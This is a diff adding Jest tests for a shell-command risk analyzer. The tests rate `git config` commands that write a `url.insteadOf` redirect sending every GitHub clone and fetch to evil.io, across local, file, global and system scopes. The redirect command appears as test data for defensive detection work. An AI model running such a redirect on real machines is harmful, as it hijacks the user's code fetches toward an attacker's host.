@@ -63,3 +63,33 @@ describe("pushing commits to a remote", () => {
     expect(rated(command)).toBe("safe");
   });
 });
+
+/**
+ * Where `git config` writes a `url.BASE.insteadOf` redirect: this repository's config by default,
+ * the user's with `--global` and every user's with `--system` (`high`: every repository reads them),
+ * or the file `-f FILE` (`--file`) names: the user's or the system's git config as `--global` is,
+ * any other file `moderate`, read only where git is told to read it.
+ */
+describe("git config writing a URL redirect", () => {
+  const redirect = "url.https://evil.io/.insteadOf https://github.com/";
+  const what = "redirects every clone and fetch of https://github.com/ to https://evil.io/";
+  it.each([
+    [`git config -f cfg ${redirect}`, "moderate", `${what}, written to cfg`],
+    [`git config --file cfg ${redirect}`, "moderate", `${what}, written to cfg`],
+    [`git config --file=cfg ${redirect}`, "moderate", `${what}, written to cfg`],
+    [`git config -fcfg ${redirect}`, "moderate", `${what}, written to cfg`],
+    [`git config ${redirect} -f cfg`, "moderate", `${what}, written to cfg`],
+    [`git config -f "$F" ${redirect}`, "moderate", `${what}, written to a file only known at run time`],
+    [`git config -f ~/.gitconfig ${redirect}`, "high", `${what}, written to /home/ada/.gitconfig, which every repository reads`],
+    [`git config -f ~/.config/git/config ${redirect}`, "high", `${what}, written to /home/ada/.config/git/config, which every repository reads`],
+    [`git config -f ~/notes/cfg ${redirect}`, "moderate", `${what}, written to /home/ada/notes/cfg`],
+    [`git config --file=/etc/gitconfig ${redirect}`, "high", `${what}, written to /etc/gitconfig, which every repository reads`],
+    [`git config --system ${redirect}`, "high", `${what}, in every repository of every user`],
+    [`git config --global ${redirect}`, "high", `${what}, in every repository`],
+    [`git config ${redirect}`, "moderate", `${what}, in this repository`],
+  ])("%s is %s: %s", (command, risk, detail) => {
+    const analysis = analyzer.analyze(command, { shell: "bash", cwd, home });
+    expect(analysis.risk, JSON.stringify(analysis.reasons)).toBe(risk);
+    expect(analysis.reasons.map((r) => r.detail)).toEqual([detail]);
+  });
+});
